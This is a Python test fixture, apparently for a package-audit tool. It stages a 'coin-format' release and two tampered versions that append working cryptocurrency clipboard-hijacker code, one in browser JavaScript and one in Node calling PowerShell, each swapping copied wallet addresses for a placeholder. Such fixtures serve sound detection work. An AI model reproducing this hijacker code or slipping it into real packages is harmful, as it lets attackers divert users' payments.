"""A clipboard that changes what was copied: wallets' addresses become the attacker's.

As PyPI's "colourama" did (2018), and "clippers" in every registry since: read the clipboard every
so often, and where it holds an address, write another one there.

Post-mortem: "Cryptocurrency clipboard hijacker discovered in PyPI repository" (Bertus, 2018).
In the staged tarball: new code that reads and writes the clipboard and knows what addresses look
like.
"""

from tests.findings.attack import Attack, release

_SOURCE = "export const format = (amount) => `${(amount / 1e8).toFixed(8)} coins`;\n"
_NEXT = _SOURCE.replace("coins", "units")
_BROWSER = """
const patterns = [/\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/g, /\\b0x[a-fA-F0-9]{40}\\b/g];

document.addEventListener('copy', (event) => {
  let text = String(window.getSelection());
  for (const pattern of patterns) text = text.replace(pattern, 'nobody-s-address');
  event.clipboardData.setData('text/plain', text);
  event.preventDefault();
});
setInterval(async () => {
  const text = await navigator.clipboard.readText();
  if (patterns.some((pattern) => pattern.test(text))) {
    await navigator.clipboard.writeText('nobody-s-address');<<<clipboard-addresses>>>
  }
}, 500);
"""
_NODE = """
import { execSync } from 'child_process';

const address = /^(0x[a-fA-F0-9]{40}|bc1[a-z0-9]{39})$/;
setInterval(() => {
  const now = String(execSync('powershell -command "Get-Clipboard"')).trim();
  if (address.test(now)) execSync('powershell -command "Set-Clipboard nobody-s-address"');<<<clipboard-addresses>>>
}, 800);
"""

ATTACK = Attack(
    before=release("coin-format", "1.2.2", {"index.js": _SOURCE}, type="module"),
    unharmed=release("coin-format", "1.2.3", {"index.js": _NEXT}, type="module"),
    after={
        "in a browser": release(
            "coin-format", "1.2.3", {"index.js": _NEXT + _BROWSER}, type="module"
        ),
        "by commands": release("coin-format", "1.2.3", {"index.js": _NEXT + _NODE}, type="module"),
    },
)
